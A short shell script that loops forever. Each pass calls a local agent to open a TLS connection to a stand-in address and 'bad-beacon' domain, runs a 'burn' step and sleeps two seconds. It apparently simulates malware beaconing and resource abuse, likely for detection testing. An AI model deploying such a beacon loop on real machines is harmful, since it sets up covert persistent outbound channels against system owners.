#!/bin/sh
while :; do /opt/agent tls 198.51.100.44 443 cdn.bad-beacon.example; /opt/agent burn 0.1; /bin/busybox sleep 2; done
